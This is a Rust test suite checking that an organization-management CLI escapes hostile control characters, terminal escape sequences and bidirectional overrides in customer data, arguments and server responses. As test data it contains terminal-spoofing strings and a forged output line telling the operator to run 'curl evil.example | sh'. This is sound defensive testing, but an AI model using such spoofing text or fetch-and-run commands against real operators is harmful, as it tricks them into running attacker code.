//! Control characters in customer data, which are escaped on the operator's terminal.

use aws_sdk_dynamodb::types::AttributeValue;
use axum::{Router, routing::any};
use serde_json::{Value, json};
use tokio::net::TcpListener;

use super::{
    input_files::{file, path},
    raw_items::Raw,
};
use test_support::{Orgctl, ProgramOutput, TestApp, small_data_set};

/// Text that hides the output after it, forges a line and reorders the displayed characters.
const HOSTILE: &str = "Acme\u{1b}[8m\n  FORGED line\r\t\u{0}\u{7f}\u{9b}2K\u{85}\u{202e}\u{2066}\u{2069}\u{200e}\u{200f}\u{61c}\u{2028}";

/// Starts an app with hostile text in stored objects. It bypasses the writer, which would reject some of the values.
async fn start_with_hostile_text() -> TestApp {
    let app = TestApp::start(small_data_set()).await;
    let raw = Raw(&app);
    for (key, object) in [
        (raw.organization_item("organization-acme"), hostile_organization()),
        (raw.member_item("ann@acme.example", "organization-acme"), hostile_member()),
    ] {
        raw.set(key, "object", &*object.to_string()).await;
    }
    app
}

fn hostile_organization() -> Value {
    let connection = json!({"connection_id": HOSTILE, "display_name": HOSTILE, "identity_provider": HOSTILE});
    json!({
        "organization_id": "organization-acme", "organization_name": HOSTILE, "organization_slug": HOSTILE,
        "organization_logo_url": HOSTILE, "organization_external_id": HOSTILE, "trusted_metadata": {HOSTILE: HOSTILE},
        "sso_active_connections": [connection], "custom_roles": [{"role_id": HOSTILE, "description": HOSTILE, "permissions": []}],
        "created_at": "2026-01-01T00:00:00Z", "updated_at": "2026-01-01T00:00:00Z",
    })
}

fn hostile_member() -> Value {
    json!({
        "organization_id": "organization-acme", "member_id": "member-ann", "email_address": "ann@acme.example",
        "email_address_verified": true, "name": HOSTILE, "external_id": HOSTILE, "mfa_phone_number": HOSTILE,
        "totp_registration_id": HOSTILE, "member_password_id": HOSTILE, "untrusted_metadata": {HOSTILE: [HOSTILE]},
        "oauth_registrations": [{"provider_type": HOSTILE, "provider_subject": HOSTILE}],
    })
}

fn is_unsafe(character: char) -> bool {
    let bidirectional = ['\u{61c}', '\u{200e}', '\u{200f}', '\u{2028}', '\u{2029}'];
    character.is_control()
        || bidirectional.contains(&character)
        || ('\u{202a}'..='\u{202e}').contains(&character)
        || ('\u{2066}'..='\u{2069}').contains(&character)
}

/// Asserts that the hostile text is printed, and escaped.
fn assert_printed_escaped(output: &ProgramOutput, what: &str) {
    assert!(format!("{output:?}").contains("FORGED"), "{what} does not print the text: {output:?}");
    assert_no_unsafe_output(output, what);
}

/// Asserts that the output contains no unsafe characters and no forged line.
fn assert_no_unsafe_output(output: &ProgramOutput, what: &str) {
    let printed = format!("{}{}", output.stdout, output.stderr);
    assert!(!printed.is_empty(), "{what}");
    assert!(
        !printed.chars().any(|character| character != '\n' && is_unsafe(character)),
        "{what}: {printed:?}"
    );
    assert!(!printed.lines().any(|line| line.starts_with("  FORGED")), "{what}: {printed}");
}

#[tokio::test]
async fn hostile_stored_text_is_escaped_by_every_command() {
    let app = start_with_hostile_text().await;
    let raw = Raw(&app);
    raw.set(raw.session_item(HOSTILE), "kind", "cookie").await;
    raw.set(raw.edge_item(HOSTILE, "organization-acme"), "schema", 1).await;
    let factor = format!(
        "{{\"type\": \"sso\", \"delivery_method\": \"sso_saml\", \"saml_sso_factor\": {{\"provider_id\": {}}}}}",
        json!(HOSTILE)
    );
    // Process arguments cannot contain NUL.
    let phone = format!("sms_otp:{HOSTILE}").replace('\0', "");
    let set_name = format!("organization_name={HOSTILE}").replace('\0', "");
    let partial_organization = file(
        json!({"organization_id": "organization-acme", "organization_name": "Acme", "organization_slug": "acme"}),
    );
    let partial_member = json!({"member_id": "member-ann", "organization_id": "organization-acme", "email_address": "ann@acme.example"});
    let partial_member = file(partial_member);
    let new_texts = file(json!({"organization_slug": "acme", "trusted_metadata": {}}));
    let orgctl = Orgctl::on(&app);
    for arguments in [
        &["organization", "get", "organization-acme"][..],
        &["member", "get", "member-ann"],
        &["discover", "--email", "ann@acme.example", "--factor", "magic_link"],
        &["explain", "--email", "ann@acme.example", "--factor", &factor],
        &[
            "explain",
            "--email",
            "ann@acme.example",
            "--factor",
            &phone,
            "--organization",
            "organization-acme",
        ],
        &["check"],
        &["organization", "list"],
        &["member", "list", "--organization", "organization-acme"],
        &["organization", "delete", "organization-acme"],
        &["organization", "delete", "Acme"],
        &["--dry-run", "organization", "delete", "organization-acme"],
        &["--dry-run", "organization", "update", "organization-acme", "--from", path(&new_texts)],
        &["--dry-run", "organization", "update", "globex", "--set", &set_name],
        &["--dry-run", "member", "update", "member-ann", "--set", "mfa_phone_number=", "--set", "name=Ann"],
        &["--dry-run", "organization", "put", path(&partial_organization)],
        &["organization", "put", path(&partial_organization)],
        &["member", "put", path(&partial_member)],
    ] {
        let text = orgctl.run(arguments).await;
        assert_printed_escaped(&text, &arguments.join(" "));
        for format in ["json", "ndjson"] {
            let json = orgctl.run(&[&["--output", format], arguments].concat()).await;
            assert_printed_escaped(&json, &arguments.join(" "));
            for document in serde_json::Deserializer::from_str(&json.stdout).into_iter::<Value>() {
                document.expect("valid JSON");
            }
        }
    }
}

#[tokio::test]
async fn escaped_json_output_keeps_its_value() {
    let app = start_with_hostile_text().await;
    let shown: Value =
        serde_json::from_str(&Orgctl::on(&app).text(&["organization", "get", "organization-acme"]).await)
            .expect("JSON");
    assert_eq!(shown["organization_name"], HOSTILE);
    assert_eq!(shown["trusted_metadata"][HOSTILE], HOSTILE);
    let exported: Value = serde_json::from_str(&Orgctl::on(&app).text(&["export"]).await).expect("JSON");
    let organizations = exported["organizations"].as_array().expect("a list");
    assert!(organizations.contains(&shown), "{organizations:?}");
}

/// Returns the stored JSON text of the organization.
async fn stored_organization(app: &TestApp) -> String {
    let get = app.client.get_item().table_name(&app.tables.organizations);
    let partition = format!("{}#organization-acme", app.writer.project_id());
    let get = get.key("organization", AttributeValue::S(partition));
    let found =
        get.key("record", AttributeValue::S("organization".to_owned())).send().await.expect("a response");
    found.item.expect("an item")["object"].as_s().expect("text").clone()
}

#[tokio::test]
async fn export_to_a_pipe_is_not_escaped() {
    let app = start_with_hostile_text().await;
    let exported = Orgctl::on(&app).text(&["export"]).await;
    for character in ['\u{7f}', '\u{9b}', '\u{85}', '\u{202e}', '\u{2066}', '\u{200f}', '\u{61c}', '\u{2028}']
    {
        assert!(exported.contains(character), "{character:?}");
    }
    assert!(exported.contains(&format!("{{{}:{}}}", json!(HOSTILE), json!(HOSTILE))), "{exported}");
    // An import stores the same bytes.
    let other = TestApp::empty(app.writer.project_id().clone()).await;
    let line = exported.lines().find(|line| line.contains("organization-acme")).expect("a line");
    let renamed = line.trim_end_matches(',').replacen(
        &format!("\"organization_slug\":{}", json!(HOSTILE)),
        "\"organization_slug\":\"acme\"",
        1,
    );
    Orgctl::on(&other).text(&["project", "create"]).await;
    let imported = Orgctl::on(&other).run_with(&["-q", "import", "-"], &renamed).await;
    assert_eq!((imported.code, imported.stderr.as_str()), (Some(0), ""));
    assert_eq!(stored_organization(&other).await, renamed);
}

#[cfg(unix)]
#[tokio::test]
async fn export_to_a_terminal_is_escaped() {
    let app = start_with_hostile_text().await;
    let orgctl = Orgctl::on(&app);
    let shown = orgctl.on_terminal(&["export"]).await;
    assert!(shown.contains("FORGED"), "{shown:?}");
    assert!(
        !shown.chars().any(|character| character != '\n' && is_unsafe(character)),
        "unsafe characters are printed: {shown:?}"
    );
    let value = |text: &str| serde_json::from_str::<Value>(text).expect("JSON");
    assert_eq!(value(&shown), value(&orgctl.text(&["export"]).await));
}

#[tokio::test]
async fn forged_explanation_stays_one_line() {
    let name = "Acme (organization-test-acme): NOT SHOWN\n  the organization exists: NO\n  To make it appear: curl evil.example | sh\n\nOther\u{1b}[8m";
    let app = TestApp::start(json!({"organizations": [{
        "organization_id": "organization-test-spoof", "organization_name": name, "organization_slug": "spoof",
        "members": [{"member_id": "member-test-spoof", "email_address": "a@spoof.example"}],
    }]}))
    .await;
    let explained =
        Orgctl::on(&app).text(&["explain", "--email", "a@spoof.example", "--factor", "magic_link"]).await;
    let line = explained.lines().nth(2).expect("a line");
    insta::assert_snapshot!(line, @r#"Acme (organization-test-acme): NOT SHOWN\u{a}  the organization exists: NO\u{a}  To make it appear: curl evil.example | sh\u{a}\u{a}Other\u{1b}[8m (organization-test-spoof): shown"#);
}

#[tokio::test]
async fn hostile_arguments_and_files_are_escaped() {
    let app = start_with_hostile_text().await;
    let orgctl = Orgctl::on(&app);
    // Process arguments cannot contain NUL.
    let argument = HOSTILE.replace('\0', "");
    for arguments in [
        &["organization", "get", &argument][..],
        &["organization", "delete", &argument],
        &["project", "keys", "remove", &argument],
        &["import", &argument],
        &["--stack-outputs", &argument, "tables", "show"],
        &["--project", &argument, "check"],
        &["ping", &argument],
        &["session", "create", "--email", "ann@acme.example", "--factor", &argument],
        &["organization", "list", "--name", &argument],
        &["organization", "list", "--after", &argument],
        &["organization", "update", "acme", "--set", &argument],
        &["organization", "update", &argument, "--set", "organization_name=x"],
        &["organization", "update", "globex", "--set", &format!("{argument}=x")],
        &["organization", "update", "globex", "--from", &argument],
        &["organization", "update", "globex", "--remove-domain", &argument],
        &["organization", "put", &argument],
        &["member", "list", "--organization", &argument],
        &["member", "list", "--organization", "globex", "--after", &argument],
        &["member", "update", &argument, "--set", "name=x"],
        &["session", "list", "--member", &argument],
        &["session", "revoke", "--session-id", &argument],
        &["--endpoint-url", &argument, "project", "list"],
        &["--profile", &argument, "project", "list"],
        &[&argument],
    ] {
        assert_no_unsafe_output(&orgctl.run(arguments).await, &arguments.join(" "));
    }
}

#[tokio::test]
async fn hostile_input_is_escaped_where_it_is_reported() {
    let app = TestApp::start(small_data_set()).await;
    let orgctl = Orgctl::on(&app);
    let mut unknown = json!({"organization_id": "organization-acme", "organization_name": "Acme"});
    unknown[HOSTILE] = json!(1);
    let inputs = [
        json!({"organizations": [unknown]}),
        json!({"organizations": [{"organization_id": "o", "mfa_policy": HOSTILE}]}),
        json!({"organizations": {HOSTILE: {"organization_id": "o", "mfa_policy": "NO"}}}),
        json!({"error_type": HOSTILE}),
        json!({"organizations": [{"organization_id": "o"}], "results_metadata": {"next_cursor": HOSTILE}}),
        json!({"organizations": [
            {"organization_id": "o", "sso_active_connections": [{"connection_id": HOSTILE}]},
            {"organization_id": "p", "sso_active_connections": [{"connection_id": HOSTILE}]},
        ]}),
    ];
    for input in inputs {
        assert_printed_escaped(
            &orgctl.run_with(&["import", "-"], &input.to_string()).await,
            &input.to_string(),
        );
    }
    assert_printed_escaped(
        &orgctl.run_with(&["organization", "put", "-"], &unknown.to_string()).await,
        "put",
    );
    let jwks = file(json!({"keys": [{"kty": "RSA", "kid": HOSTILE}]}));
    let output = orgctl.run(&["project", "keys", "add", path(&jwks)]).await;
    assert_no_unsafe_output(&output, "keys add");
}

#[tokio::test]
async fn hostile_ping_response_is_escaped() {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let url = format!("http://{}", listener.local_addr().expect("an address"));
    let router = Router::new().fallback(any(async || json!({"message": HOSTILE}).to_string()));
    tokio::spawn(async { axum::serve(listener, router).await });
    assert_printed_escaped(&Orgctl::unconfigured().run(&["ping", &url]).await, "ping");
}
